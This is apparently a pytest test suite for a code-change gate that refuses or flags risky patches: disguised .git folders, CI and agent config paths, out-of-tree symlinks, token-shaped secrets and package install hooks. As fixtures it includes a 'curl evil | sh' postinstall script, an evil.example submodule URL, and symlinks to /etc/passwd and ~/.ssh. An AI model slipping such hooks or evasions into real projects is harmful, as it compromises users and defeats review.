"""The gate's verdicts, case by case."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.core.patch import (
    ABSENT,
    EXECUTABLE,
    FILE,
    MAX_BYTES,
    MAX_FILES,
    SYMLINK,
    Allowed,
    Change,
    GatePolicy,
    NeedsApproval,
    RefusedChange,
    judge,
)
from bot.core.patch_paths import is_git_name, leaves_tree, matches_any

POLICY = GatePolicy()
GITHUB_TOKEN = "ghp_" + "a1B2" * 10


def added(path: str, text: str | bytes = "x\n", mode: str = FILE, **more: object) -> Change:
    data = text.encode() if isinstance(text, str) else text
    return Change(path, ABSENT, mode, len(data), None, data, **more)  # type: ignore[arg-type]


def edited(path: str, old: str, new: str) -> Change:
    return Change(path, FILE, FILE, len(new.encode()), old.encode(), new.encode())


def codes(verdict: object) -> list[str]:
    match verdict:
        case Allowed(flags):
            return [flag.code for flag in flags]
        case NeedsApproval(reasons, _):
            return [reason.code for reason in reasons]
        case RefusedChange(reason):
            return [reason.code]
    raise AssertionError(verdict)


def test_ordinary_change_is_allowed_without_flags() -> None:
    changes = [added("src/new.py"), edited("README.md", "a\n", "b\n"), Change("old.py", FILE, ABSENT)]
    assert judge(changes, POLICY) == Allowed()


def test_exactly_the_limits_pass_and_one_more_does_not() -> None:
    at_limit = [added(f"f{number}") for number in range(MAX_FILES)]
    assert isinstance(judge(at_limit, POLICY), Allowed)
    assert codes(judge([*at_limit, added("one-more")], POLICY)) == ["too_many_files"]
    assert isinstance(judge([added("big", b"a" * MAX_BYTES)], POLICY), Allowed)
    assert codes(judge([added("big", b"a" * (MAX_BYTES + 1))], POLICY)) == ["too_large"]
    halves = [Change("a", ABSENT, FILE, MAX_BYTES // 2), Change("b", ABSENT, FILE, MAX_BYTES // 2 + 1)]
    assert codes(judge(halves, POLICY)) == ["too_large"]


@pytest.mark.parametrize("mode", ["160000", "040000", "100600", "100664", "120755", ""])
def test_other_modes_are_refused(mode: str) -> None:
    assert codes(judge([Change("sub", ABSENT, mode)], POLICY)) == ["file_mode"]


def test_removing_a_submodule_entry_is_no_mode_of_ours_to_refuse() -> None:
    assert judge([Change("sub", "160000", ABSENT)], POLICY) == Allowed()


GIT_DISGUISES = [
    ".git", ".GIT", ".Git", ".git.", ".git ", ".git. .", ".gi\u200ct", ".g\u200dit", "\ufeff.git", "git~1", "GIT~1",
    "GIT~2", ".git::$INDEX_ALLOCATION", ".git:stream", "a\\.git\\config",
]  # fmt: skip


@pytest.mark.parametrize("name", GIT_DISGUISES)
def test_every_disguise_of_a_git_folder_is_refused(name: str) -> None:
    assert codes(judge([added(f"deep/{name}/config")], POLICY)) == ["nested_git"]
    assert is_git_name(name)


@pytest.mark.parametrize("name", ["git", ".github", ".gitignore", ".gitkeep", "legit", "git~", "digit~1", ".gitea"])
def test_ordinary_names_are_not_git_folders(name: str) -> None:
    assert not is_git_name(name)


def test_lfs_and_submodule_urls_and_known_secrets_are_refused() -> None:
    assert codes(judge([added("a.bin", attributes={"filter": "lfs"})], POLICY)) == ["lfs"]
    url = '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x\n'
    assert codes(judge([added(".gitmodules", url)], POLICY)) == ["submodule_url"]
    assert codes(judge([added("x.py", "key = 'hunter2-secret'\n")], POLICY, ["hunter2-secret"])) == ["known_secret"]
    assert codes(judge([added("hunter2-secret.txt")], POLICY, ["hunter2-secret"])) == ["known_secret"]
    assert judge([added("x.py", "key = 'abc'\n")], POLICY, ["abc", ""]) == Allowed()


PROTECTED = [
    ".github/workflows/ci.yml", ".GitHub/workflows/ci.yml", ".github./x", ".github /x", "sub/.github/x",
    ".gitlab-ci.yml",
    ".circleci/config.yml", ".buildkite/p.yml", "Jenkinsfile", "jenkinsfile", "azure-pipelines.yml", "docs/CODEOWNERS",
    ".gitattributes", "sub/.gitattributes", ".lfsconfig", ".husky/pre-commit", ".pre-commit-config.yaml",
    "AGENTS.md", "agents.md", "sub/AGENTS.md", "CLAUDE.md", ".claude/settings.json", ".mcp.json", ".codex/config.toml",
    "opencode.json", ".cursor/rules", "package-lock.json", "yarn.lock", "pnpm-lock.yaml", "uv.lock",
    "requirements.lock",
    "go.sum", "Cargo.lock", "Dockerfile", "deploy/Dockerfile.prod", "app.dockerfile", ".git\u200bhub/x",
    "Co\u00adDEOWNERS", ".gitattributes.", ".gitattributes::$DATA",
]  # fmt: skip


@pytest.mark.parametrize("path", PROTECTED)
def test_protected_paths_wait_for_an_admin(path: str) -> None:
    assert codes(judge([added(path)], POLICY)) == ["protected_path"]
    assert "protected_path" in codes(judge([Change(path, FILE, ABSENT, old=b"x")], POLICY))


@pytest.mark.parametrize("path", ["src/github/x.py", "docs/jenkinsfile.md", "lock.py", "locks/a", "MY_AGENTS.md"])
def test_similar_names_are_not_protected(path: str) -> None:
    assert judge([added(path)], POLICY) == Allowed()


LINKS_OUT = [
    ("link", "/etc/passwd"), ("link", "../x"), ("a/b/link", "../../../x"), ("link", "a/../../x"),
    ("link", ".git/config"),
    ("a/link", "../.GIT/hooks"), ("link", "~/.ssh"), ("link", "C:\\x"), ("link", "\\\\host\\x"), ("link", ".."),
]  # fmt: skip


@pytest.mark.parametrize(("path", "target"), LINKS_OUT)
def test_links_out_of_the_tree_wait_for_an_admin(path: str, target: str) -> None:
    assert leaves_tree(path, target)
    assert codes(judge([added(path, target, SYMLINK)], POLICY)) == ["symlink_out"]


@pytest.mark.parametrize(("path", "target"), [("link", "a"), ("a/b/link", "../c"), ("a/link", "../README.md")])
def test_links_within_the_tree_are_allowed(path: str, target: str) -> None:
    assert judge([added(path, target, SYMLINK)], POLICY) == Allowed()


def test_token_shaped_lines_count_only_when_added() -> None:
    line = f"token = '{GITHUB_TOKEN}'\n"
    assert codes(judge([added("x.py", "a\n" + line)], POLICY)) == ["token_shaped"]
    assert judge([edited("x.py", line, line + "more\n")], POLICY) == Allowed()
    assert codes(judge([added("x.min.js", "a " * 30_000 + GITHUB_TOKEN)], POLICY)) == ["token_shaped"]


def test_package_scripts_wait_but_dependencies_do_not() -> None:
    old = json.dumps({"scripts": {"test": "jest"}, "dependencies": {}})
    deps = json.dumps({"scripts": {"test": "jest"}, "dependencies": {"a": "1"}})
    hook = json.dumps({"scripts": {"test": "jest", "postinstall": "curl evil | sh"}})
    assert judge([edited("package.json", old, deps)], POLICY) == Allowed()
    assert codes(judge([edited("web/package.json", old, hook)], POLICY)) == ["package_scripts"]
    assert codes(judge([edited("package.json", old, "{")], POLICY)) == ["package_scripts"]
    assert codes(judge([added("package.json", "[" * 200_000)], POLICY)) == ["package_scripts"]
    toml = '[project]\nname = "x"\n'
    assert judge([edited("pyproject.toml", toml, toml + 'version = "2"\n')], POLICY) == Allowed()
    backend = toml + '[build-system]\nbuild-backend = "evil"\n'
    assert codes(judge([edited("pyproject.toml", toml, backend)], POLICY)) == ["package_scripts"]


def test_flags_do_not_stop_a_change() -> None:
    changes = [
        added("a.py", "ok\nx = 'a\u202eb'\n"),
        added("run.sh", "#!/bin/sh\n", EXECUTABLE),
        added("logo.png", b"\x89PNG\0\0"),
        added("gen.py", attributes={"linguist-generated": "set"}),
        added("quiet.py", attributes={"diff": "unset"}),
        added("A.txt"),
        added("a.TXT"),
        added("na\u200bme.py"),
    ]
    verdict = judge(changes, POLICY)
    assert isinstance(verdict, Allowed)
    found = {(flag.code, flag.path, flag.line) for flag in verdict.flags}
    assert found == {
        ("hidden_characters", "a.py", 2),
        ("new_executable", "run.sh", None),
        ("binary", "logo.png", None),
        ("hidden_diff", "gen.py", None),
        ("hidden_diff", "quiet.py", None),
        ("case_twins", "a.TXT", None),
        ("hidden_characters", "na\u200bme.py", None),
    }


def test_refused_wins_over_needs_approval() -> None:
    changes = [added(".github/workflows/x.yml"), Change("sub", ABSENT, "160000")]
    assert codes(judge(changes, POLICY)) == ["file_mode"]


def test_findings_are_bounded() -> None:
    text = f"{GITHUB_TOKEN}\n" * 5_000
    distinct = "".join(f"{number} {line}\n" for number, line in enumerate(text.splitlines()))
    verdict = judge([added("x", distinct)], POLICY)
    assert isinstance(verdict, NeedsApproval)
    assert len(verdict.reasons) == 50


@given(st.lists(st.tuples(st.text(min_size=1), st.binary()), max_size=5))
def test_any_bytes_get_a_verdict(files: list[tuple[str, bytes]]) -> None:
    changes = [Change(path, ABSENT, FILE, len(data), None, data) for path, data in files]
    assert isinstance(judge(changes, POLICY), Allowed | NeedsApproval | RefusedChange)


@given(st.text(alphabet=".git~1GIT \u200c\u200d:", min_size=1, max_size=8))
def test_a_name_git_would_refuse_is_never_protected_by_luck(name: str) -> None:
    visible = "".join(letter for letter in name if letter not in "\u200c\u200d").casefold()
    if visible.rstrip(". ") == ".git":
        assert is_git_name(name)
    assert matches_any(f"{name}/x", ["zz"]) is False
